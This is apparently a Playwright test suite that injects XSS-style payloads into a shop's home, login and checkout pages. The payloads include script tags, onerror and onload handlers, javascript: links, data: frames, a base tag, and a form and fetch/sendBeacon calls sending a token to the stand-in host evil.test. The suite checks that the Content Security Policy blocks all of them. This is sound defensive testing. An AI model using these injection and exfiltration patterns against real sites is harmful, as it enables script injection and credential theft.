import { expect, type Page, test } from '@playwright/test';

/** What would be in a page if somebody had found a way to write into it. Each notes its name when it runs. */
const hostile = `
  <script>ran.push('a script')</script>
  <script src="https://evil.test/a.js"></script>
  <script src="data:text/javascript,ran.push('a script in its own address')"></script>
  <img src="/nothing.png" onerror="ran.push('a handler')">
  <svg onload="ran.push('a handler of a drawing')"></svg>
  <a id="bait" href="javascript:ran.push('a link')">bait</a>
  <iframe src="data:text/html,<script>parent.ran.push('a frame')</script>"></iframe>
  <iframe src="https://evil.test/"></iframe>
  <iframe srcdoc="<script>parent.ran.push('a frame with a document')</script>"></iframe>
  <object data="https://evil.test/a.swf"></object>
  <base href="https://evil.test/">
  <style>body { --stolen: 1 }</style>
  <form id="form" action="https://evil.test/" method="post"><input name="token" value="x"></form>`;

declare global {
  interface Window {
    ran: string[];
    refused: string[];
  }
}

/** Opens a page into which the hostile parts were written on their way, under the policy that the shop sent with it. */
async function openBroken(page: Page, path: string): Promise<string[]> {
  // Only what the browser has let through comes here.
  const sent: string[] = [];
  await page.route(/evil\.test/, (route) => {
    sent.push(route.request().url());
    return route.abort();
  });
  await page.addInitScript(() => {
    window.ran = [];
    window.refused = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective));
  });
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${hostile}</body>`) });
  });
  await page.goto(path);
  return sent;
}

for (const path of ['/', '/login', '/checkout'])
  test(`nothing that is written into ${path} from outside runs, loads or leaves`, {
    tag: path === '/checkout' ? [] : '@long',
  }, async ({ page }) => {
    const sent = await openBroken(page, path);
    await page.evaluate(() => {
      document.querySelector<HTMLAnchorElement>('#bait')?.click();
      document.querySelector<HTMLFormElement>('#form')?.submit();
      void fetch('https://evil.test/?token=x').catch(() => {});
      navigator.sendBeacon('https://evil.test/', 'token');
      // Text as code: what eval does, by another name.
      setTimeout("ran.push('a text as code')");
    });
    for (const directive of [
      'script-src-elem',
      'script-src-attr',
      'frame-src',
      'object-src',
      'base-uri',
      'style-src-elem',
      'connect-src',
      'form-action',
    ])
      await expect.poll(() => page.evaluate(() => window.refused)).toContain(directive);
    expect(await page.evaluate(() => window.ran)).toEqual([]);
    expect(sent).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(path);
  });
